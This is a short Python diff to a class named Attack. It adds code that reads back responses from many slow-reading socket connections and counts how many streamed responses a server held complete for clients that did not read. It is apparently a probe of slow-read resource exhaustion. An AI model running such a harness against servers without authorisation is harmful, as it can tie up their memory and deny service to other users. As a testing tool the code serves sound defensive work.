@@ -239,8 +239,18 @@ class Attack:
             line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
             line.sendall(head + b"Content-Length: %d\r\n\r\n" % len(body) + body)
         time.sleep(6)
+        whole = 0
         for line in lines:
+            line.settimeout(10)
+            end = b""
+            try:
+                while piece := line.recv(1_000_000):
+                    end = (end + piece)[-20:]
+            except OSError:
+                pass
+            whole += b"[DONE]" in end
             line.close()
+        return f"{whole} of {len(lines)} were kept whole for someone who did not read" if whole else None
 
 
 def main():
